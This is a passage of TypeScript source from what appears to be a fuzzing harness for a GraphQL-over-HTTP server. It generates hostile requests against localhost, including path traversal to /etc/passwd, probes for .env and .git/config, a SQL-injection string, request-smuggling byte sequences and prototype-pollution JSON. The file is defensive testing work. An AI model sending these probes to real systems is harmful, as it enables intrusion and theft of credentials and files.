  const target = `/graphql${params.length > 0 || rng.chance(0.5) ? '?' : ''}${params.join('&')}${rng.chance(0.05) ? '#frag' : ''}`;
  const headers: Record<string, string> = {};
  if (rng.chance(0.75)) headers['apollo-require-preflight'] = 'true';
  else if (rng.chance(0.5)) headers['content-type'] = rng.pick(['application/json', 'text/plain', 'application/x-www-form-urlencoded']);
  if (rng.chance(0.6)) headers.accept = rng.pick(ACCEPTS);
  const credentials = anyCredentials(rng, world, { valid: 70, none: 15, invalid: 15 });
  const draft: Draft = { note: `GET: ${notes.join(', ') || 'bare'}`, method: 'GET', target, headers, credentials, submitted };
  return target.includes('#') || /[^\x21-\x7e]/.test(target) ? toRaw(draft) : draft;
}

function malformedText(rng: Rng, text: string): string {
  const at = rng.int(0, text.length);
  return `${text.slice(0, at)}${rng.pick(['"', '{', '}', '\u0000', '$', '...'])}${text.slice(at)}`;
}

const PATHS = [
  '/', '/graphql', '/graphql/', '//graphql', '/GRAPHQL', '/graphql.json', '/graphql;x=1', '/graphql%00', '/graphql%2F', '/healthz', '/readyz',
  '/healthz/', '/readyz?verbose=1', '/metrics', '/.env', '/.git/config', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc%2fpasswd', '/%', '/%zz',
  '/graphql/../healthz', '/./graphql', '/graphiql', '/playground', '/api/graphql', '/v1/graphql', '/favicon.ico', '/robots.txt',
  '/.well-known/jwks.json', '/jwks', '/graphql?query=%7B__typename%7D', '/index.php?id=1%27%20OR%201=1', '/%F0%9F%A6%80', '/%C0%AE%C0%AE/',
];

function methodsPaths(rng: Rng, world: FuzzWorld): Draft {
  const credentials = anyCredentials(rng, world, { valid: 50, none: 30, invalid: 20 });
  return rng.weighted<() => Draft>([
    [6, () => {
      const method = rng.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'PROPFIND', 'MKCOL', 'SEARCH', 'PURGE', 'LINK', 'REPORT']);
      const target = rng.chance(0.8) ? rng.pick(PATHS) : `/${rng.text(rng.size(1, 8000), `${ALNUM}/._~-%`)}`;
      const withBody = !['GET', 'HEAD'].includes(method) && rng.chance(0.6);
      const body = withBody ? rng.pick([JSON.stringify({ query: '{ __typename }' }), '{}', '', 'x'.repeat(rng.size(1, 1_500_000))]) : undefined;
      const headers: Record<string, string> = withBody ? { 'content-type': 'application/json' } : {};
      if (rng.chance(0.3)) headers['apollo-require-preflight'] = 'true';
      const draft: Draft = { note: `${method} ${target.slice(0, 40)}`, method, target, headers, credentials, ...(body !== undefined ? { body } : {}) };
      return ['PROPFIND', 'MKCOL', 'SEARCH', 'PURGE', 'LINK', 'REPORT'].includes(method) || /%(?![0-9A-Fa-f]{2})/.test(target) ? toRaw(draft) : draft;
    }],
    [4, () => {
      // Bytes node:http has to parse itself.
      const host = 'Host: localhost\r\n';
      const json = JSON.stringify({ query: '{ __typename }' });
      const garbage = rng.pick<[string, string | Buffer, boolean?]>([
        ['garbage line', `${rng.text(rng.size(1, 200), `${ALNUM} /:`)}\r\n\r\n`],
        ['random bytes', rng.bytes(rng.size(1, 2000))],
        ['TRACE', `TRACE /graphql HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
        ['CONNECT', `CONNECT localhost:80 HTTP/1.1\r\n${host}Connection: close\r\n\r\n`, true],
        ['lower-case method', `get /healthz HTTP/1.1\r\n${host}\r\n`],
        ['unknown method', `${rng.pick(['FOO', 'BREW', 'G3T', 'GETT'])} /graphql HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
        ['HTTP/1.0', `GET /healthz HTTP/1.0\r\n\r\n`],
        ['HTTP/0.9', `GET /healthz\r\n\r\n`],
        ['HTTP/3.0', `GET /healthz HTTP/3.0\r\n${host}\r\n`],
        ['HTTP/2 preface', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
        ['absolute-form target', `GET http://evil.example/graphql?query=%7B__typename%7D HTTP/1.1\r\n${host}apollo-require-preflight: 1\r\nConnection: close\r\n\r\n`],
        ['malformed absolute target', `GET ${rng.pick(['http://[::1/graphql', 'http://%zz/graphql', 'http://a:b:c/graphql', 'http://:99999/graphql'])} HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
        ['asterisk target', `OPTIONS * HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
        ['header without colon', `GET /healthz HTTP/1.1\r\n${host}NoColonHere\r\n\r\n`],
        ['obs-fold', `GET /healthz HTTP/1.1\r\n${host}X-A: a\r\n b\r\nConnection: close\r\n\r\n`],
        ['control chars in header', `GET /healthz HTTP/1.1\r\n${host}X-Bad: \u0001\u0002\u007f\r\nConnection: close\r\n\r\n`],
        ['conflicting Content-Length', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${json.length}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n${json}`],
        ['Content-Length and chunked', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${json.length.toString(16)}\r\n${json}\r\n0\r\n\r\n`],
        ['bad chunk size', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n${json}\r\n0\r\n\r\n`],
        ['negative Content-Length', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: -1\r\nConnection: close\r\n\r\n`],
        ['Content-Length shorter than the body', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${rng.int(1, json.length - 1)}\r\nConnection: close\r\n\r\n${json}`],
        ['huge declared length', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: ${rng.pick(['99999999999', '1048577', '18446744073709551616', '1e9'])}\r\nConnection: close\r\n\r\n`],
        ['upgrade', `GET /graphql HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`, true],
        ['h2c upgrade', `GET /healthz HTTP/1.1\r\n${host}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n`, true],
        ['duplicate auth headers', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nAuthorization: ${world.credentials.staff.value}\r\nAuthorization: Bearer x.y.z\r\nX-Purpose: employment-support\r\nContent-Length: ${json.length}\r\nConnection: close\r\n\r\n${json}`],
        ['duplicate api keys', `POST /graphql HTTP/1.1\r\n${host}Content-Type: application/json\r\nX-API-Key: ${world.credentials.apiKey.value}\r\nX-API-Key: sgk_x\r\nContent-Length: ${json.length}\r\nConnection: close\r\n\r\n${json}`],
        ['pipelined', `GET /healthz HTTP/1.1\r\n${host}\r\nGET /nope HTTP/1.1\r\n${host}\r\nPUT /graphql HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
        ['non-ASCII target', Buffer.concat([Buffer.from('GET /gräphql/🦀 HTTP/1.1\r\n'), Buffer.from(`${host}Connection: close\r\n\r\n`)])],
        ['space in target', `GET /graph ql HTTP/1.1\r\n${host}Connection: close\r\n\r\n`],
      ]);
      const [label, bytes, mayClose] = garbage;
      const raw = Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1');
      // node:http keeps the first of duplicated Authorization headers (the valid one) and joins X-API-Key ones.
      const auth: Auth = label === 'duplicate auth headers' ? 'valid' : label === 'duplicate api keys' ? 'invalid' : 'none';
      return { note: `protocol: ${label}`, raw, mayCloseSilently: mayClose ?? false, credentials: { headers: {}, auth } };
    }],
  ])();
}

/** The same request as raw HTTP/1.1 bytes (for headers or targets fetch refuses). */
function toRaw(draft: Draft): Draft {
  const headers = { ...(draft.credentials?.headers ?? {}), ...(draft.headers ?? {}) };
  const body = draft.body === undefined ? undefined : Buffer.isBuffer(draft.body) ? draft.body : Buffer.from(draft.body, 'utf8');
  const lines = [`${draft.method ?? 'GET'} ${draft.target ?? '/'} HTTP/1.1`, 'Host: localhost', ...Object.entries(headers).map(([k, v]) => `${k}: ${v}`)];
  if (body) lines.push(`Content-Length: ${body.length}`);
  lines.push('Connection: close', '', '');
  const head = Buffer.from(lines.join('\r\n'), 'utf8');
  return { ...draft, raw: body ? Buffer.concat([head, body]) : head, note: `${draft.note} (raw)` };
}

/** Digit runs of 10 or more (possibly personal numbers) in a text. */
function extractDigitRuns(text: string): string[] {
  return [...new Set(text.match(/\d{10,12}/g) ?? [])].slice(0, 50);
}

// ---------------------------------------------------------------------------------------------------------
// One request

const FAMILY_WEIGHTS: readonly (readonly [number, Family])[] = [
  [9, 'malformed-json'], [10, 'malformed-graphql'], [9, 'deep-wide'], [9, 'bad-variables'], [15, 'injection'],
  [18, 'valid-random'], [10, 'hostile-headers'], [7, 'hostile-tokens'], [7, 'get'], [6, 'methods-paths'],
];

export interface Generator {
  (index: number): FuzzRequest;
  coordinates: readonly string[];
}

export function createGenerator(world: FuzzWorld, runSeed: number): Generator {
  const coordinates = argumentCoordinates(world.schema);
  const generate = (index: number): FuzzRequest => {
    const rng = new Rng(requestSeed(runSeed, index));
    const family = rng.weighted(FAMILY_WEIGHTS);
    const draft = ({
      'malformed-json': () => malformedJson(rng, world),
      'malformed-graphql': () => malformedGraphql(rng, world),
      'deep-wide': () => deepWide(rng, world),
      'bad-variables': () => badVariables(rng, world),
      injection: () => injection(rng, world, coordinates),
      'valid-random': () => validRandom(rng, world),
      'hostile-headers': () => hostileHeaders(rng, world),
      'hostile-tokens': () => hostileTokens(rng, world),
      get: () => getRequest(rng, world),
      'methods-paths': () => methodsPaths(rng, world),
    } satisfies Record<Family, () => Draft>)[family]();
    const credentials = draft.credentials ?? { headers: {}, auth: 'none' as const };
    // The family's own (hostile) headers win over the credentials' defaults, e.g. a hostile X-Purpose.
    const headers = { ...credentials.headers, ...(draft.headers ?? {}) };
    const request: FuzzRequest = {
      index,
      family,
      note: draft.note,
      method: draft.method ?? 'GET',
      target: draft.target ?? '/',
      headers,
      auth: credentials.auth,
      submitted: [...new Set((draft.submitted ?? []).filter((s) => s.length > 0))],
      probes: draft.probes ?? [],
    };
    if (credentials.principal) request.principal = credentials.principal;
    if (draft.body !== undefined) request.body = Buffer.isBuffer(draft.body) ? draft.body : Buffer.from(draft.body, 'utf8');
    if (draft.raw) request.raw = draft.raw;
    // Header values fetch cannot send (non-Latin-1, controls, surrounding white space) go raw, as they are.
    else if (Object.values(headers).some(needsRaw)) request.raw = toRaw({ ...draft, headers, credentials: { ...credentials, headers: {} } }).raw!;
    if (draft.mayCloseSilently) request.mayCloseSilently = true;
    return request;
  };
  return Object.assign(generate, { coordinates });
}

// ---------------------------------------------------------------------------------------------------------
// Every JSON type in every member of a GraphQL-over-HTTP request (a table, not seeded: each case is named)

/** JSON values of every type, as JSON text (so that `__proto__` stays a key and 1e400 stays a number literal). */
export const JSON_VALUES: readonly string[] = [
  'null', 'true', 'false', '0', '1', '-1', '2', '1.5', '1e400', '-1e400', '123456789012345678901234567890', '""', '"x"',
  `"${'f'.repeat(64)}"`, '[]', '[1]', '{}', '{"toString":1}', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}',
];

/** A member of a request by its path, and the request (JSON text) that holds `value` there. */
export interface MemberCase {
  member: string;
  value: string;
  /** The request as a JSON object's text (POST, one piece of a batch). */
  json: string;
  /** The same request as a GET query string (without `?`). */
  search: string;
}

const param = (name: string, value: string) => `${name}=${encodeURIComponent(value)}`;

/**
 * `value` in each member of a request that is otherwise valid: query, operationName, variables, extensions, and
 * the automatic persisted query's extension, version and hash, both with the query and by hash alone.
 */
export function memberCases(query: string, queryHash: string): MemberCase[] {
  const q = JSON.stringify(query);
  const persisted = (inner: string, withQuery: boolean) => ({
    json: `{${withQuery ? `"query":${q},` : ''}"extensions":{"persistedQuery":${inner}}}`,
    search: [...(withQuery ? [param('query', query)] : []), param('extensions', `{"persistedQuery":${inner}}`)].join('&'),
  });
  return JSON_VALUES.flatMap((value) => {
    const cases: Omit<MemberCase, 'value'>[] = [
      { member: 'query', json: `{"query":${value}}`, search: param('query', value) },
      { member: 'operationName', json: `{"query":${q},"operationName":${value}}`, search: `${param('query', query)}&${param('operationName', value)}` },
      { member: 'variables', json: `{"query":${q},"variables":${value}}`, search: `${param('query', query)}&${param('variables', value)}` },
      { member: 'extensions', json: `{"query":${q},"extensions":${value}}`, search: `${param('query', query)}&${param('extensions', value)}` },
      ...[true, false].flatMap((withQuery) => {
        const how = withQuery ? ' (with the query)' : ' (hash alone)';
        return [
          { member: `extensions.persistedQuery${how}`, ...persisted(value, withQuery) },
          { member: `extensions.persistedQuery.version${how}`, ...persisted(`{"version":${value},"sha256Hash":"${queryHash}"}`, withQuery) },
          { member: `extensions.persistedQuery.sha256Hash${how}`, ...persisted(`{"version":1,"sha256Hash":${value}}`, withQuery) },
        ];
      }),
    ];
    return cases.map((c) => ({ ...c, value }));
  });
}

// ---------------------------------------------------------------------------------------------------------
// Reproduction

function shorten(text: string, max = 600): string {
  if (text.length <= max) return text;
  const runs = /(.)\1{49,}/s.exec(text);
  if (runs) {
    const [run, ch] = runs;
    const compact = `${text.slice(0, runs.index)}«${JSON.stringify(ch)} × ${run.length}»${text.slice(runs.index + run.length)}`;
    if (compact.length < text.length) return shorten(compact, max);
  }
  return `${text.slice(0, max)}…«${text.length - max} more characters»`;
}

/** A curl command (or the raw bytes) that sends the request again; long runs and tails are abbreviated. */
export function describeRequest(request: FuzzRequest, origin: string): string {
  const head = `#${request.index} [${request.family}] ${request.note} (auth: ${request.auth}${request.principal ? `, ${request.principal}` : ''})`;
  if (request.raw) return `${head}\n  raw bytes: ${shorten(JSON.stringify(request.raw.toString('latin1')))}`;
  const headers = Object.entries(request.headers).map(([k, v]) => ` -H ${shellQuote(`${k}: ${shorten(/^Bearer /.test(v) && k === 'authorization' && v.length > 200 ? `${v.slice(0, 60)}…` : v, 200)}`)}`).join('');
  const body = request.body ? ` --data-binary ${shellQuote(shorten(request.body.toString('utf8')))}` : '';
  return `${head}\n  curl -s -X ${request.method} ${shellQuote(origin + request.target.slice(0, 600))}${headers}${body}`;
}

function shellQuote(text: string): string {
  return `'${text.replace(/'/g, `'\\''`)}'`;
}
